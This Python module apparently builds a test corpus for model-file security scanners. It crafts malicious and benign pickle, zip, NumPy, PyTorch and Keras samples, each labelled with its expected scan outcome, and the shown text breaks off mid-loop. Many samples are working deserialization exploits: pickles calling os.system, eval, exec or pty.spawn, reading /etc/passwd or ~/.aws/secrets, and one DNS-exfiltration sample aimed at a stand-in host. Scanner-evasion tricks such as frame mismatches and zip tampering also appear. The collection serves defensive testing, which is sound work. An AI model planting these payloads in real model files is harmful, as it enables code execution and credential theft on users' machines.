"""The samples of the unsafe-model suite: what the test suites of picklescan,
modelscan and fickling load, rebuilt here from what those tests describe
(standard library only, no torch, numpy, h5py or tensorflow), plus samples
of our own. Each sample is a small release (files by relative path) with
the outcome expected of a scan:

  "malicious"  at least one error finding (a loader would run code, import
               a module that does, or read opcodes the scan cannot vouch for)
  "safe"       no error finding
  "allowlist"  a sample a peer flags only because its import is not on an
               allowlist (fickling's ML allowlist) although it runs nothing:
               a pickle-unknown-global warning, no error
  "malformed"  a damaged sample that runs nothing: an error all the same
               (a loader fails on it, or readers disagree about it)
  "unchecked"  content a loader would unpickle but the scan cannot read
               (compressed, or sized by values it cannot work out): an error

samples() returns them; the suite runner is unsafe_suite.py."""

import collections
import io
import marshal
import os
import pickle
import struct
import sys
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import samplegen as g  # noqa: E402
from samplegen import Call, named, su  # noqa: E402


class Sample:
    def __init__(self, suite, name, kind, files, loader=None, codes=()):
        self.suite, self.name, self.kind, self.files = suite, name, kind, files
        self.loader = loader  # text an error message must name, if any
        self.codes = tuple(codes)  # finding codes that must be present


def one(suite, name, kind, data, fname=None, **kw):
    return Sample(suite, name, kind, {fname or name: data}, **kw)


# ---- payloads shared by the suites ------------------------------------------------

def eval_call(code="print('456')"):
    return Call(eval, code)


def system_call(cmd="ls -la"):
    return Call(os.system, cmd)


SOUR_PICKLE = (
    b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");"
    b"picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n"
    b"0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n"
    b"(g100\nS'picklesmashed'\nltRp104\n0g104\n.")


def ctf_memo(trailing=b""):
    """PUT/GET route "os"/"system" to STACK_GLOBAL past decoy torch names."""
    return (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93"
            b"(Vcat flag.txt\ntR." + trailing)


def attrgetter_chain():
    """operator.attrgetter('system')(__import__('os'))('echo pwned')."""
    return (b"\x80\x04" + g.stack_global("operator", "attrgetter") + su("system") +
            b"\x94\x85\x94R\x94" + g.stack_global("builtins", "__import__") + su("os") +
            b"\x94\x85\x94R\x94\x85\x94R\x94" + su("echo pwned") + b"\x94\x85\x94R\x94.")


def via_import(op_module, op_name, args, call_arg_first):
    """GLOBAL builtins.__import__('os') memoized, then an operator gadget."""
    head = g.glob("builtins", "__import__") + b"(Vos\ntRp0\n0" + g.glob(op_module, op_name)
    head += b"(" + b"".join(b"V" + a.encode() + b"\n" for a in args) + b"tR"
    if call_arg_first:
        return head + b"(g0\ntR."
    return head + b"(g0\ntR(Vecho pwned\ntR."


def codetype_pickle():
    """types.CodeType(*args) built from the fields of a real code object."""
    c = compile("print('CodeType')", "<dynamic_code>", "exec")
    args = (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals,
            c.co_stacksize, c.co_flags, c.co_code, c.co_consts, c.co_names, c.co_varnames,
            c.co_filename, c.co_name, c.co_qualname, c.co_firstlineno, c.co_linetable,
            c.co_exceptiontable, c.co_freevars, c.co_cellvars)
    body = pickle.dumps(args, protocol=4)[2:-1]
    return b"\x80\x04" + g.stack_global("types", "CodeType") + body + b"R."


def cloudpickle_like():
    """The shape cloudpickle writes for a function: _builtin_type('CodeType')
    called with code fields, _make_function, _make_empty_cell,
    _function_setstate, subimport('builtins')."""
    cp = "cloudpickle.cloudpickle"
    code = compile("getattr(__builtins__, 'eval')(p)", "<x>", "exec")
    body = b"\x80\x05" + g.stack_global(cp, "_make_function") + b"("
    body += g.stack_global(cp, "_builtin_type") + su("CodeType") + b"\x85R"
    body += b"(" + b"".join(b"K" + bytes([v]) for v in (1, 0, 0, 1, 5, 19))
    body += b"C" + bytes([len(code.co_code)]) + code.co_code + b")t" + b"R"
    body += b"}(" + su("__name__") + su("__main__") + b"uNN"
    body += g.stack_global(cp, "_make_empty_cell") + b")R\x85tR"
    body += g.stack_global(cp, "_function_setstate") + b"h\x00}" + su("builtins")
    body += g.stack_global(cp, "subimport") + su("builtins") + b"\x85R\x86R0."
    return body


# ---- picklescan --------------------------------------------------------------------

PS_GHSA = [
    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", ("x", {})),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", ({}, "x")),
    ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes",
     "ShapeEnv.evaluate_guards_expression", ({}, "x", [])),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", ("x",)),
    ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers",
     ("pickle", b"")),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", ("x", {}, {})),
    ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config", ({}, b"")),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", ({}, "x")),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", ({}, "x", {}, {})),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run", ({}, "x")),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", ({}, "x", {}, {})),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"")),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, "x")),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, "x")),
    ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions",
     ({}, "x", 1)),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", ({}, "x")),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", ({}, "x")),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", ("x",)),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", ("x", {})),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", ("x",)),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label",
     (None, {}, '""+x')),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", ({}, "x")),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, "x")),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, "x")),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", ("x", True)),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", ("x", None, None)),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", ("x",)),
    ("GHSA-7wx9-6375-f5wh", "profile", "run", ("x",)),
    ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start",
     ({}, "whoami", True, None, None, None, 0)),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", ("pwned.env", ["x"])),
    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", (None,)),
    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (["/bin/sh", "-c", "id"],)),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", ("x", [])),
    ("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name", ("os:system",)),
    ("GHSA-g38g-8gr9-h9xp-uuid", "uuid", "_get_command_stdout", ("id",)),
    ("GHSA-g38g-8gr9-h9xp-osx-support", "_osx_support", "_read_output", ("id",)),
    ("GHSA-g38g-8gr9-h9xp-aix-support", "_aix_support", "_read_cmd_output", ("id",)),
    ("GHSA-g38g-8gr9-h9xp-imaplib", "imaplib", "IMAP4_stream", ("id",)),
    ("io_FileIO", "_io", "FileIO", ("/etc/hosts", "r")),
    ("urllib_request_urlopen", "urllib.request", "urlopen", ("https://example.invalid",)),
    ("logging_FileHandler", "logging", "FileHandler", ("evil.log",)),
    ("malicious14", "runpy", "_run_code", ("print('456')",)),
    ("malicious17", "torch._inductor.codecache", "compile_file", ("", "", ["sh"])),
    ("malicious18", "pydoc", "pipepager", ("", "echo pwned")),
    ("malicious20", "venv", "create", ("venv", False, False, True, False, "$(echo)")),
    ("malicious21", "timeit", "timeit", ("", "import os")),
    ("malicious22", "numpy.testing._private.utils", "runstring", ("import os", {})),
    ("malicious4", "requests.api", "get", ("https://github.com",)),
    ("malicious5", "aiohttp.client", "ClientSession", ()),
    ("malicious7", "socket", "create_connection", (("github.com", 80),)),
    ("malicious8", "subprocess", "run", (["ls", "-l"],)),
    ("malicious9", "sys", "exit", (0,)),
]


def picklescan():
    s = "picklescan"
    out = []
    for v in (0, 3, 4):
        out.append(one(s, f"benign0_v{v}.pkl", "safe", pickle.dumps(["a", "b", "c"], v)))
        out.append(one(s, f"malicious1_v{v}.pkl", "malicious", g.dumps(eval_call(), v),
                       loader="pickle.load"))
        out.append(one(s, f"malicious2_v{v}.pkl", "malicious", g.dumps(system_call(), v),
                       loader="pickle.load"))
    out.append(one(s, "malicious0.pkl", "malicious", SOUR_PICKLE))
    import http.client
    out.append(one(s, "malicious3.pkl", "malicious",
                   g.dumps(Call(http.client.HTTPSConnection, "github.com"), 0)))
    for name, mod, fn, args in PS_GHSA:
        ext = ".pickle" if name in ("malicious4", "malicious5") else ".pkl"
        out.append(one(s, name + ext, "malicious", g.call_pickle(mod, fn, *args)))
    out.append(one(s, "GHSA-jgw4-cr84-mqxg.bin", "malicious",
                   g.call_pickle("asyncio.unix_events", "_UnixSubprocessTransport._start", {},
                                 "whoami", True, None, None, None, 0), loader="torch.load"))
    out.append(one(s, "GHSA-jhph-76pp-mggw.pkl", "malicious",
                   g.dumps(Call(named("torch.utils.collect_env", "run_and_read_all"),
                                named("torch.utils.collect_env", "run"), "x"))))
    import operator
    import pydoc
    out.append(one(s, "GHSA-84r2-jw7c-4r5q.pkl", "malicious",
                   g.dumps(Call(operator.methodcaller("system", "echo pwned"),
                                Call(pydoc.locate, "os")))))
    out.append(one(s, "malicious6.pkl", "malicious",
                   pickle.dumps(["a", "b", "c"]) +
                   g.dumps(Call(named("requests.api", "get"), "https://github.com"))))
    out.append(one(s, "malicious10.pkl", "malicious",
                   b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n."))
    out.append(one(s, "malicious11.pkl", "malicious", ctf_memo()))
    out.append(one(s, "malicious-invalid-bytes.pkl", "malicious", ctf_memo(b"\n\n\t\t")))
    out.append(one(s, "malicious12.pkl", "malicious", attrgetter_chain()))
    out.append(one(s, "malicious13a.pkl", "malicious",
                   g.dumps(Call(pickle.loads, b"I12345\n."), 0)))
    out.append(one(s, "malicious13b.pkl", "malicious",
                   g.dumps(Call(pickle.loads, b"I12345\n."), 4)))
    import bdb
    for v, tag in ((2, "a"), (4, "b")):
        out.append(one(s, f"malicious15{tag}.pkl", "malicious",
                       g.dumps(Call(bdb.Bdb.run, bdb.Bdb(), "import os"), v)))
    out.append(one(s, "malicious16.pkl", "malicious",
                   g.dumps(Call(named("pip", "main"), ["install", "x"]), 0)))
    import functools
    partial_load = functools.partial(named("torch.serialization", "load"), "other.bin",
                                     pickle_file="config.json", weights_only=False)
    out.append(one(s, "malicious19.pkl", "malicious", g.dumps(Call(partial_load))))
    out.append(one(s, "malicious23.pkl", "malicious",
                   b"S'os'\nS'system'\n\x93S'ls'\n\x85R."))
    out.append(one(s, "broken_model.pkl", "malicious",
                   b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); "
                   b"f.close()tRX."))
    out.append(one(s, "keyerror-exploit.pkl", "malicious",
                   b"\x80\x04cos\nsystem\nVecho pwned\n\x85R0" + su("os") +
                   b"\x94h\x03h\x00\x93KB."))
    out.append(one(s, "type-confusion-exploit.pkl", "malicious",
                   b"\x80\x04cos\nsystem\nVecho confused\n\x85R0J*\x00\x00\x00\x94" + su("os") +
                   b"\x94h\x00h\x01\x93KB."))
    out.append(one(s, "GHSA-955r-x9j8-7rhh.pkl", "malicious",
                   via_import("_operator", "methodcaller", ["system", "echo pwned"], True)))
    out.append(one(s, "GHSA-46h3-79wf-xr6c.pkl", "malicious",
                   via_import("_operator", "attrgetter", ["system"], False)))
    out.append(one(s, "GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl", "malicious",
                   b"\x80\x04" + su("_pyrepl.pager") + su("pipe_pager") + b"\x93" + su("text") +
                   su("id") + b"\x86R."))
    out.append(one(s, "GHSA-g38g-8gr9-h9xp-test.pkl", "malicious",
                   b"\x80\x04" + su("test.support.script_helper") + su("assert_python_ok") +
                   b"\x93" + su("-c pass") + b"\x85R."))
    out.append(one(s, "types_CodeType.pkl", "malicious", codetype_pickle()))
    out.append(one(s, "cloudpickle_codeinjection.pkl", "malicious", cloudpickle_like()))
    out.append(one(s, "sys_module_override_sploit.pkl", "malicious",
                   b"\x80\x04Vtorch._utils\n\x94V_rebuild_tensor\n\x94\x93\x940Vtorch\nV_utils\n"
                   b"\x93\x940h\x03}h\x01Vbuiltins\nsb0h\x00h\x01\x93h\x03}h\x01Veval\nsb0"
                   b"h\x00h\x01\x93\x93Vexec(\"print(1)\")\n\x85R."))
    # archives holding the eval pickle
    evil4 = g.dumps(eval_call(), 4)
    out.append(one(s, "malicious1.zip", "malicious", g.zip_of([("data.pkl", evil4)])))
    out.append(one(s, "malicious1_wrong_ext.zip", "malicious", g.zip_of([("data.txt", evil4)])))
    cd = g.zip_of([("data.pkl", evil4)]).replace(b"data.pkl", b"datap.kl", 1)
    out.append(one(s, "malicious1_central_directory.zip", "malicious", cd))
    crc = g.zip_of([("data.pkl", evil4)]).replace(b"print('456')", b"print('123')", 1)
    out.append(one(s, "malicious1_crc.zip", "malicious", crc))
    framed = g.dumps(eval_call(), 4)
    for flag in (0x1, 0x20, 0x40):
        out.append(one(s, f"malicious1_0x{flag:x}.zip", "malicious",
                       g.zip_set_flags(g.zip_of([("model/config.pkl", framed)]), flag)))
    out.append(one(s, "malicious1.7z", "malicious",
                   g.sevenzip([("data.pkl", evil4)], g.ATTR_UNIX_NO_TYPE)))
    out.append(one(s, "benign_password_protected.zip", "safe",
                   g.zipcrypto_entry("test.txt", b"secret content.")))
    magic_bypass = (g.dumps(Call(eval, "0x1950A86A20F9469CFC6C"), 2) + pickle.dumps(1001, 2) +
                    pickle.dumps({}, 2) + pickle.dumps([], 2) +
                    g.dumps(system_call("echo pwned"), 2) + pickle.dumps(None, 2))
    out.append(one(s, "pytorch_magic_bypass.pt", "malicious", magic_bypass,
                   loader="torch.load"))
    sd = g.torch_pickle(g.torch_state_dict(2))
    out.append(one(s, "pytorch_model.bin", "safe",
                   g.legacy_stream(g.torch_pickle(g.torch_state_dict(2), legacy=True))))
    out.append(one(s, "new_pytorch_model.bin", "safe", g.torch_zip(sd, storages=2)))
    out.append(one(s, "bad_pytorch.pt", "safe", b"\x89PNG\r\n\x1a\n"))
    out.append(one(s, "not_a_pickle.bin", "safe", b"cmod\n\xf8\n"))
    out.append(one(s, "suspicious_counter.pkl", "safe",
                   g.dumps(Call(collections.Counter, [1, 2, 3]))))
    out.append(one(s, "mock_benign.pkl", "safe", pickle.dumps({"a": 0, "b": 1, "c": 2})))
    out.append(one(s, "mock_benign.zip", "safe",
                   g.zip_of([("data.pkl", pickle.dumps({"a": 0, "b": 1, "c": 2}))])))
    out.append(one(s, "hub_malicious.bin", "malicious",
                   g.zip_of([("archive/data.pkl", g.dumps(eval_call(), 4))]),
                   fname="pytorch_model.bin", loader="torch.load"))
    # NumPy
    out.append(one(s, "object_array.npy", "safe", g.npy_object([(1, 2), (3, 4)], (2, 2))))
    out.append(one(s, "int_array.npy", "safe", g.npy_ints([1, 2, 3, 4], (2, 2))))
    payload = Call(named("ssl", "get_server_certificate"), ("x.dns-logger.invalid", 443))
    out.append(one(s, "dns_exfiltration.npy", "malicious",
                   g.npy_object([payload], core="numpy._core.multiarray"),
                   loader="numpy.load"))
    for comp in (False, True):
        tag = "_compressed" if comp else ""
        out.append(one(s, f"object_arrays{tag}.npz", "safe",
                       g.zip_of([("a.npy", g.npy_object([0, 1, 2])),
                                 ("b.npy", g.npy_object([3, 4, 5]))], deflate=comp)))
        out.append(one(s, f"int_arrays{tag}.npz", "safe",
                       g.zip_of([("a.npy", g.npy_ints([0, 1, 2])),
                                 ("b.npy", g.npy_ints([3, 4, 5]))], deflate=comp)))
    return out


# ---- modelscan ---------------------------------------------------------------------

def inject_first(payload, obj, protocol=4):
    """A pickle whose opcodes build payload before obj (the result), as the
    injecting pickler of modelscan's tests writes them."""
    body = pickle.dumps((payload, obj), protocol)
    return body


def modelscan():
    s = "modelscan"
    out = []
    for v in (0, 3, 4):
        out.append(one(s, f"benign0_v{v}.pkl", "safe", pickle.dumps(["a", "b", "c"], v)))
        out.append(one(s, f"benign0_v{v}.dill", "safe", pickle.dumps(["a", "b", "c"], v)))
        out.append(one(s, f"malicious1_v{v}.pkl", "malicious", g.dumps(eval_call(), v)))
        out.append(one(s, f"malicious1_v{v}.dill", "malicious", g.dumps(eval_call(), v),
                       loader="dill.load"))
        out.append(one(s, f"malicious2_v{v}.pkl", "malicious", g.dumps(system_call(), v)))
    out.append(one(s, "malicious0.pkl", "malicious", SOUR_PICKLE))
    import http.client
    out.append(one(s, "malicious3.pkl", "malicious",
                   g.dumps(Call(http.client.HTTPSConnection, "github.com"), 0)))
    for name, mod, fn, args in (
            ("malicious4.pickle", "requests.api", "get", ("https://github.com",)),
            ("malicious5.pickle", "aiohttp.client", "ClientSession", ()),
            ("malicious7.pkl", "socket", "create_connection", (("github.com", 80),)),
            ("malicious8.pkl", "subprocess", "run", (["ls", "-l"],)),
            ("malicious9.pkl", "sys", "exit", (0,))):
        out.append(one(s, name, "malicious", g.call_pickle(mod, fn, *args)))
    out.append(one(s, "malicious6.pkl", "malicious",
                   pickle.dumps(["a", "b", "c"]) +
                   g.dumps(Call(named("requests.api", "get"), "https://github.com"))))
    import bdb
    out.append(one(s, "malicious15.pkl", "malicious",
                   g.dumps(Call(bdb.Bdb.run, bdb.Bdb(), "import os"), 4)))
    out.append(one(s, "malicious11.pkl", "malicious", ctf_memo()))
    out.append(one(s, "malicious10.pkl", "malicious",
                   b"(S'print(\"Injection running\")'\ni__builtin__\nexec\n."))
    inner = b"\x80\x05cos\nsystem\nVecho pwned!!!\n\x85R."
    out.append(one(s, "malicious12.pkl", "malicious",
                   b"\x80\x05cpickle\nloads\nB" + struct.pack("<I", len(inner)) + inner +
                   b"\x85R0N."))
    out.append(one(s, "malicious13.pkl", "malicious",
                   b"\x80\x05cbuiltins\neval.__call__\n"
                   b"V__import__(\"os\").system(\"echo pwned!!!\")\n\x85R."))
    out.append(one(s, "malicious14.pkl", "malicious", ctf_memo(b"\n\n\t\t")))
    out.append(one(s, "test.zip", "malicious",
                   g.zip_of([("data.pkl", g.dumps(eval_call(), 4))])))
    out.append(one(s, "password_protected.zip", "safe", g.zipcrypto_entry("test.txt", b"")))
    out.append(one(s, "bad_pytorch.pt", "safe", b"\x89PNG\r\n\x1a\n"))
    empty_sd = g.torch_pickle(collections.OrderedDict())
    out.append(one(s, "safe_zip_pytorch.pt", "safe",
                   g.torch_zip(empty_sd, prefix="safe_zip_pytorch", storages=0)))
    out.append(one(s, "safe_old_format_pytorch.pt", "safe",
                   g.legacy_stream(g.torch_pickle(collections.OrderedDict(), legacy=True),
                                   keys=())))
    # torch.save with an injecting pickler: os.system runs before the state
    # dict is built (the pickle ends with the OrderedDict and leftovers).
    unsafe_pkl = (b"\x80\x02cposix\nsystem\nq\x00X\x1e\x00\x00\x00cat ~/.aws/secrets\n"
                  b"            q\x01\x85q\x02Rq\x03ccollections\nOrderedDict\nq\x04)Rq\x05}q\x06"
                  b"X\t\x00\x00\x00_metadataq\x07h\x04)Rq\x08X\x00\x00\x00\x00q\t}q\nX\x07\x00\x00"
                  b"\x00versionq\x0bK\x01sssb.")
    unsafe_zip = g.torch_zip(unsafe_pkl, prefix="unsafe_zip_pytorch", storages=0)
    out.append(one(s, "unsafe_zip_pytorch.pt", "malicious", unsafe_zip, loader="torch.load"))
    # NumPy: a saved int array, and a raw pickle of one with exec injected
    out.append(one(s, "safe_numpy.npy", "safe", g.npy_ints([1, 2, 3, 4, 5, 6], (2, 3))))
    arr = g.np_array_obj([1, 2, 3])
    out.append(one(s, "unsafe_numpy.npy", "malicious",
                   inject_first(Call(exec, 'print("Malicious code!")'), arr),
                   loader="numpy.load"))
    # Keras: .keras zips, .h5 files, SavedModel folders
    k3_safe = g.keras_model_config(g.safe_layers())
    k3_evil = g.keras_model_config(g.safe_layers() + [g.keras_lambda("lambda"),
                                                      g.keras_lambda("lambda_1")])
    out.append(one(s, "safe.keras", "safe", g.keras_zip(k3_safe)))
    out.append(one(s, "unsafe.keras", "malicious", g.keras_zip(k3_evil), codes=["keras-lambda"]))
    k2_safe = g.keras_model_config(g.safe_layers(False), keras3=False)
    k2_evil = g.keras_model_config(g.safe_layers(False) + [g.keras_lambda("lambda", False),
                                                           g.keras_lambda("lambda_1", False)],
                                   keras3=False)
    import json
    out.append(one(s, "safe.h5", "safe", g.hdf5_with_attrs([
        ("keras_version", b"2.15.0"), ("backend", b"tensorflow"),
        ("model_config", json.dumps(k2_safe).encode())], vlen=True)))
    out.append(one(s, "unsafe.h5", "malicious", g.hdf5_with_attrs([
        ("keras_version", b"2.15.0"), ("backend", b"tensorflow"),
        ("model_config", json.dumps(k2_evil).encode())], vlen=True),
                   codes=["keras-lambda"]))
    safe_graph = ["Placeholder", "MatMul", "Const", "Identity", "SaveV2", "RestoreV2",
                  "StatefulPartitionedCall", "VarHandleOp", "ReadVariableOp"]
    meta_safe = g.keras_metadata([{"class_name": "Dense", "config": {"name": "dense"}}])
    meta_evil = g.keras_metadata([{"class_name": "Dense", "config": {"name": "dense"}},
                                  {"class_name": "Lambda", "config": {"name": "lambda",
                                   "function": {"items": [g.LAMBDA_CODE, None, None]}}},
                                  {"class_name": "Lambda", "config": {"name": "lambda_1",
                                   "function": {"items": [g.LAMBDA_CODE, None, None]}}}])
    pb_safe = g.tf_saved_model(safe_graph, ["MatMul", "BiasAdd", "Identity"])
    out.append(Sample(s, "keras_saved_model_safe", "safe", {
        "saved_model.pb": pb_safe, "keras_metadata.pb": meta_safe, "fingerprint.pb": b"\x08\x01",
        "variables/variables.index": b"\0" * 16,
        "variables/variables.data-00000-of-00001": b"\0" * 64}))
    out.append(Sample(s, "keras_saved_model_unsafe", "malicious", {
        "saved_model.pb": pb_safe, "keras_metadata.pb": meta_evil, "fingerprint.pb": b"\x08\x01",
        "variables/variables.index": b"\0" * 16}, codes=["keras-lambda"]))
    pb_evil = g.tf_saved_model(safe_graph, ["MatMul", "WriteFile", "MatchingFiles",
                                            "ReadFile", "PrintV2"])
    out.append(Sample(s, "tf_saved_model_unsafe", "malicious", {
        "saved_model.pb": pb_evil, "keras_metadata.pb": meta_safe,
        "fingerprint.pb": b"\x08\x01"}, codes=["tf-dangerous-op"]))
    return out


# ---- fickling ----------------------------------------------------------------------

def p4(body, proto=4):
    return b"\x80" + bytes([proto]) + body + b"."


def fickling():
    s = "fickling"
    out = []

    def mal(name, data, **kw):
        out.append(one(s, name + ".pkl", "malicious", data, **kw))

    def safe(name, data):
        out.append(one(s, name + ".pkl", "safe", data))

    mal("pty_frame_build", p4(g.frame(g.stack_global("pty", "spawn") + su("id") + b"\x94\x85\x94R"
                                      b"\x94" + su("gottem") + b"\x94b")))
    mal("pty_obj", b"(cpty\nspawn\nS'id'\no.")
    code = marshal.dumps(compile('import os\nos.system("id")', "<string>", "exec"))
    mal("marshal_types", p4(b"\x95\0\0\0\0\0\0\0\0" + su("marshal") + su("loads") + b"\x93\x94"
                            b"h\x00C" + bytes([len(code)]) + code + b"\x85R\x94" +
                            su("types") + su("FunctionType") + b"\x93\x94h\x02h\x01}\x86R\x94"
                            b"h\x03)R\x94" + su("gottem") + b"b"))
    mal("runpy_run_path", p4(g.stack_global("runpy", "run_path") + su("/tmp/m.py") +
                             b"\x94\x85\x94R\x94", 5))
    mal("cprofile_run", p4(g.stack_global("cProfile", "run") + su("print(1)") +
                           b"\x94\x85\x94R\x94", 5))

    def getattr_chain(mod, fn, arg_ops, attr, call_arg):
        return p4(g.stack_global("builtins", "getattr") + g.stack_global(mod, fn) + arg_ops +
                  b"R\x94" + su(attr) + b"\x94\x86\x94R\x94" + call_arg + b"\x94\x85\x94R\x94", 5)

    mal("ctypes_cdll", getattr_chain("ctypes", "CDLL", su("libc.dylib") + b"\x94\x85\x94",
                                     "system", b"C\x02id"))
    mal("pydoc_locate", p4(g.stack_global("pydoc", "locate") + su("os.system") +
                           b"\x94\x85\x94R\x94" + su("id") + b"\x94\x85\x94R\x94", 5))
    mal("importlib_import_module", getattr_chain("importlib", "import_module",
                                                 su("os") + b"\x94\x85\x94", "system", su("id")))
    mal("code_interactive", getattr_chain("code", "InteractiveInterpreter", b")\x94", "runsource",
                                          su("import os")))
    mal("multiprocessing_spawnv", p4(g.frame(
        g.stack_global("multiprocessing.util", "spawnv_passfds") + b"C\x07/bin/sh\x94]\x94(h\x03"
        b"C\x02-c\x94C\x02id\x94e)\x87\x94R\x94"), 5))
    mal("builtins_import_getattr", b"cbuiltins\n__import__\nS'os'\n\x85Rp0\n0cbuiltins\n"
                                   b"getattr\ng0\nS'system'\n\x86Rp1\n0g1\nS'whoami'\n\x85R.")
    mal("builtins_getattr", b"cbuiltins\ngetattr\nS'os'\nS'system'\n\x86R.")
    mal("builtins_eval", b"cbuiltins\neval\nS'print(1)'\n\x85R.")
    safe("builtins_len", b"cbuiltins\nlen\n]\x85R.")
    safe("builtins_dict", b"cbuiltins\ndict\n)R.")
    mal("operator_methodcaller", via_import("_operator", "methodcaller", ["system", "echo x"],
                                            True))
    mal("distutils_write_file", p4(g.stack_global("distutils.file_util", "write_file", False) +
                                   su("/tmp/m.txt") + b"(" + su("x") + b"l\x86R"))
    mal("io_fileio", p4(g.stack_global("_io", "FileIO", False) + su("/etc/passwd") + b"\x85R"))
    mal("f2py_getlincoef", p4(g.stack_global("numpy.f2py.crackfortran", "getlincoef", False) +
                              su("__import__('os')") + b"}\x86R"))
    for mod, cls, port in (("smtplib", "SMTP", 25), ("imaplib", "IMAP4", 143),
                           ("ftplib", "FTP", 21), ("poplib", "POP3", 110),
                           ("telnetlib", "Telnet", 23), ("nntplib", "NNTP", 119)):
        mal(f"ssrf_{mod}", p4(g.glob(mod, cls) + su("127.0.0.1") + b"M" +
                              struct.pack("<H", port) + b"\x86R}b"))
    mal("asyncio_subprocess", p4(g.frame(
        g.stack_global("asyncio.unix_events", "_UnixSubprocessTransport._start") + b"(}\x94" +
        su("whoami") + b"\x94\x88NNNK\x00t\x94R\x94")))
    mal("obj_pop_invisible", p4(b"(" + su("smtplib") + su("SMTP") + b"\x93" + su("127.0.0.1") +
                                b"o0N"))
    mal("uuid_command", p4(su("uuid") + su("_get_command_stdout") + b"\x93" + su("echo") +
                           su("x") + b"\x86R"))
    mal("aix_support", p4(su("_aix_support") + su("_read_cmd_output") + b"\x93" + su("echo x") +
                          b"\x85R"))
    mal("osx_support", p4(su("_osx_support") + su("_find_build_tool") + b"\x93" + su("x; echo") +
                          b"\x85R"))
    mal("dotted_pathlib_os_system", p4(su("pathlib") + su("os.system") + b"\x93)R"))
    for mod in ("_interpreters", "_xxsubinterpreters"):
        mal(f"private_{mod}", p4(su(mod) + su("create") + b"\x93)R"))
    safe("codecs_encode", p4(su("_codecs") + su("encode") + b"\x93"))
    safe("future_annotations", p4(su("__future__") + su("annotations") + b"\x93"))
    out.append(one(s, "future_dotted_private.pkl", "allowlist",
                   p4(su("__future__") + su("_ssl.RAND_bytes") + b"\x93")))
    out.append(one(s, "ast_parse_not_allowlisted.pkl", "allowlist",
                   p4(su("ast") + su("parse") + b"\x93")))
    # frames that disagree with their opcodes
    hidden = b"cos\nsystem\nVecho pwned\n\x85R"
    divergence = (b"\x80\x05NV" + b"a" * (8192 * 16 - 17) + b"\n0(\x95" + struct.pack("<Q", 2) +
                  b"B\x07\x01\x00\x00\x00\x00" + (hidden + b"(").ljust(261, b"N") + b"1.")
    mal("frame_boundary_divergence", divergence, codes=["pickle-frame-mismatch"])

    def framed(body, declared):
        return b"\x80\x05\x95" + struct.pack("<Q", declared) + body + b"."

    for name, data in (
            ("binbytes", framed(b"B" + struct.pack("<I", 20) + b"A" * 20, 5)),
            ("short_binunicode", framed(b"\x8c\x14" + b"A" * 20, 3)),
            ("global_module", framed(b"cmacos\nsystem\n", 4)),
            ("global_attr", framed(b"cos\nsystem\n", 7)),
            ("unicode", framed(b"Vhello world\n", 5)),
            ("binint", framed(b"J" + struct.pack("<i", 7), 2)),
            ("nested_frame", b"\x80\x05\x95" + struct.pack("<Q", 30) + b"N\x95" +
             struct.pack("<Q", 2) + b"N.")):
        mal(f"frame_straddle_{name}", data, codes=["pickle-frame-mismatch"])
    for obj in ([1, 2, 3, 4], b"x" * 100000, [1, b"y" * 100000, 2], list(range(200000)),
                {"a": [1, 2, {"b": (3, 4)}], "c": [5, 6]}):
        for proto in (2, 4, 5):
            tag = type(obj).__name__ + str(len(obj))
